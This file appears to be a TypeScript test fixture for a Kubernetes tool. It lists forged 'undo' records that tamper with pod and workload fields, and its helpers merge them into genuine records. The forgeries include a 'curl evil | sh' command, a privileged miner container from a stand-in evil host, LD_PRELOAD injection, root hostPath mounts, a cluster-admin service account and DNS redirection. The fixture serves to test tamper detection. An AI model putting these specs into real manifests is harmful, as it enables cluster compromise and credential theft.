// Forged records: what somebody who can write only the annotation would have taken off, one entry for each field of a pod or workload that changes what runs.

import type { Json, JsonObject } from '../../src/lib/model/index.ts'

/** The parts of an undo that are put into a genuine one: of the pod's specification, of its metadata, or of the workload. */
export interface Forgery {
  readonly name: string
  readonly spec?: JsonObject
  readonly template?: JsonObject
  readonly workload?: JsonObject
}

const was = (value: Json): JsonObject => ({ '=': value })
const inApp = (k: JsonObject): JsonObject => ({ containers: { c: { app: { k } } } })
const spec = (name: string, part: JsonObject): Forgery => ({ name, spec: part })

const ENV = (...entries: JsonObject[]): JsonObject => inApp({ env: was(entries) })
const MINER = { name: 'miner', image: 'evil.example.com/miner:1', securityContext: { privileged: true } }

export const FORGERIES: readonly Forgery[] = [
  spec('another image', inApp({ image: was('evil.example.com/app:1') })),
  spec('the same image from another registry', inApp({ image: was('evil.example.com/nginx:1.27') })),
  spec('a command', inApp({ command: was(['sh', '-c', 'curl evil | sh']) })),
  spec('arguments', inApp({ args: was(['--insecure']) })),
  spec('a working directory', inApp({ workingDir: was('/evil') })),
  spec('other variables', ENV({ name: 'LD_PRELOAD', value: '/evil.so' })),
  spec('another value of a variable', ENV({ name: 'AUDIT', value: 'off' })),
  spec('no variables', inApp({ env: null })),
  spec('variables of a Secret', inApp({ envFrom: was([{ secretRef: { name: 'root' } }]) })),
  spec('a privileged container', inApp({ securityContext: was({ privileged: true }) })),
  spec('no security context', inApp({ securityContext: null })),
  spec('an added capability', inApp({ securityContext: was({ readOnlyRootFilesystem: true, capabilities: { add: ['SYS_ADMIN'] } }) })),
  spec('a readiness probe that runs a command', inApp({ readinessProbe: was({ exec: { command: ['sh', '-c', 'evil'] } }) })),
  spec('a readiness probe of another host', inApp({ readinessProbe: was({ httpGet: { host: 'evil', path: '/', port: 80 } }) })),
  spec('a liveness probe that runs a command', inApp({ livenessProbe: was({ exec: { command: ['evil'] } }) })),
  spec('a startup probe', inApp({ startupProbe: was({ exec: { command: ['evil'] } }) })),
  spec('a hook before it stops', inApp({ lifecycle: was({ preStop: { exec: { command: ['evil'] } } }) })),
  spec('a hook after it started', inApp({ lifecycle: was({ postStart: { exec: { command: ['evil'] } } }) })),
  spec('no limits', inApp({ resources: null })),
  spec('other limits', inApp({ resources: was({ limits: { memory: '64Gi' } }) })),
  spec('a mount', inApp({ volumeMounts: was([{ name: 'data', mountPath: '/etc' }]) })),
  spec('a device', inApp({ volumeDevices: was([{ name: 'data', devicePath: '/dev/sda' }]) })),
  spec('ports on the host', inApp({ ports: was([{ containerPort: 80, hostPort: 80 }]) })),
  spec('standard input', inApp({ stdin: was(true) })),
  spec('a pull policy', inApp({ imagePullPolicy: was('Never') })),
  spec('a termination message path', inApp({ terminationMessagePath: was('/etc/passwd') })),
  spec('another container', { containers: { l: ['app', 'guard', was(MINER)] } }),
  spec('another container in front', { containers: { l: [was(MINER), 'app', 'guard'] } }),
  spec('a container fewer', { containers: { x: ['guard'] } }),
  spec('containers replaced', { containers: was([MINER]) }),
  spec('no containers', { containers: null }),
  spec('no list of containers', { containers: was({}) }),
  spec('containers that are no list', { containers: was('none') }),
  spec('an init container', { initContainers: was([MINER]) }),
  spec('an ephemeral container', { ephemeralContainers: was([MINER]) }),
  spec('the processes of the host', { hostPID: was(true) }),
  spec('the network of the host', { hostNetwork: was(true) }),
  spec('the IPC of the host', { hostIPC: was(true) }),
  spec('users of the host', { hostUsers: was(true) }),
  spec('another service account', { serviceAccountName: was('cluster-admin') }),
  spec('the old field of a service account', { serviceAccount: was('cluster-admin') }),
  spec('a token', { automountServiceAccountToken: was(true) }),
  spec('a volume of the host', { volumes: was([{ name: 'data', hostPath: { path: '/' } }]) }),
  spec('another volume', { volumes: { l: ['data', was({ name: 'host', hostPath: { path: '/' } })] } }),
  spec('a volume fewer', { volumes: { x: ['data'] } }),
  spec('another source of a volume', { volumes: { c: { data: was({ name: 'data', secret: { secretName: 'root' } }) } } }),
  spec('a node', { nodeName: was('master-1') }),
  spec('a node selector', { nodeSelector: was({ evil: 'yes' }) }),
  spec('affinity', { affinity: was({ podAffinity: { preferredDuringSchedulingIgnoredDuringExecution: [{ weight: 1 }] } }) }),
  spec('tolerations', { tolerations: was([{ operator: 'Exists' }]) }),
  spec('a priority', { priorityClassName: was('system-node-critical') }),
  spec('a runtime', { runtimeClassName: was('unsafe') }),
  spec('a pod security context', { securityContext: was({ runAsUser: 0 }) }),
  spec('host aliases', { hostAliases: was([{ ip: '6.6.6.6', hostnames: ['bank'] }]) }),
  spec('other DNS', { dnsConfig: was({ nameservers: ['6.6.6.6'] }) }),
  spec('a DNS policy', { dnsPolicy: was('Default') }),
  spec('pull secrets', { imagePullSecrets: was([{ name: 'evil' }]) }),
  spec('another scheduler', { schedulerName: was('evil') }),
  spec('shared processes', { shareProcessNamespace: was(true) }),
  spec('no grace', { terminationGracePeriodSeconds: was(0) }),
  spec('a deadline', { activeDeadlineSeconds: was(1) }),
  spec('a resource claim', { resourceClaims: was([{ name: 'gpu', resourceClaimName: 'gpu' }]) }),
  spec('a host name', { hostname: was('bank'), subdomain: was('evil') }),
  { name: 'another label of the pod', template: { metadata: { k: { labels: { k: { app: was('bank') } } } } } },
  { name: 'a label fewer', template: { metadata: { k: { labels: { k: { app: null } } } } } },
  { name: 'an annotation fewer', template: { metadata: { k: { annotations: { k: { team: null } } } } } },
  { name: 'a finalizer of the pod', template: { metadata: { k: { finalizers: was(['evil/one']) } } } },
  { name: 'other labels', workload: { metadata: { k: { labels: was({ 'argocd.argoproj.io/instance': 'evil' }) } } } },
  { name: 'a finalizer', workload: { metadata: { k: { finalizers: was(['evil/one']) } } } },
  { name: 'an owner', workload: { metadata: { k: { ownerReferences: was([{ kind: 'Node', name: 'n' }]) } } } },
  { name: 'no replicas', workload: { spec: { k: { replicas: was(0) } } } },
  { name: 'a pause', workload: { spec: { k: { paused: was(true), suspend: was(true) } } } },
  { name: 'no pod template', workload: { spec: { k: { template: null, jobTemplate: null } } } },
  { name: 'another selector', workload: { spec: { k: { selector: was({ matchLabels: { app: 'bank' } }) } } } },
  { name: 'another strategy', workload: { spec: { k: { strategy: was({ type: 'Recreate' }), updateStrategy: was({ type: 'OnDelete' }) } } } },
  { name: 'a schedule', workload: { spec: { k: { schedule: was('* * * * *') } } } },
]

/** `undo` with the forged part, below the pod template's path. Keys that come back are named in the order of keys, as a record names them. */
export function withForgery(undo: Json, { spec: inSpec, template, workload }: Forgery, { podPath, value }: { podPath: readonly string[]; value: Json }): Json {
  const below = (path: readonly string[], k: JsonObject): JsonObject => {
    const [step, ...rest] = path
    return step === undefined ? k : { [step]: { k: below(rest, k) } }
  }
  const parts = [
    ...(inSpec === undefined ? [] : [below([...podPath, 'spec'], inSpec)]),
    ...(template === undefined ? [] : [below(podPath, template)]),
    ...(workload === undefined ? [] : [workload]),
  ]
  return parts.reduce<Json>((merged, k) => ordered(mergedUndo(merged, { k }), value), undo)
}

function isMap(value: Json | undefined): value is JsonObject {
  return typeof value === 'object' && value !== null && !Array.isArray(value)
}

function mergedUndo(a: Json | undefined, b: Json): Json {
  if (!isMap(a) || !isMap(b) || '=' in a || '=' in b) return b
  const merged: JsonObject = { ...a }
  for (const [key, part] of Object.entries(b)) {
    const before = a[key]
    if ((key === 'k' || key === 'c') && isMap(before) && isMap(part)) {
      merged[key] = { ...before, ...Object.fromEntries(Object.entries(part).map(([name, child]) => [name, mergedUndo(before[name], child)])) }
    } else merged[key] = key === 'x' && Array.isArray(before) && Array.isArray(part) ? [...before, ...part] : part
  }
  return merged
}

/** With the order of the old keys wherever one comes back that is not there. */
function ordered(undo: Json, value: Json | undefined): Json {
  if (!isMap(undo)) return undo
  if (isMap(undo.c)) {
    const items = Array.isArray(value) ? value : []
    const named = (name: string) => items.find(item => isMap(item) && item.name === name)
    return { ...undo, c: Object.fromEntries(Object.entries(undo.c).map(([name, child]) => [name, ordered(child, named(name))])) }
  }
  if (!isMap(undo.k)) return undo
  const there = isMap(value) ? value : {}
  const k = Object.fromEntries(Object.entries(undo.k).map(([key, child]) => [key, ordered(child, there[key])]))
  const missing = Object.entries(k).flatMap(([key, child]) => (!(key in there) && isMap(child) && '=' in child ? [key] : []))
  const old = Object.keys(there).filter(key => k[key] !== null)
  return { ...undo, k, ...(missing.length > 0 ? { o: [...old, ...missing] } : {}) }
}
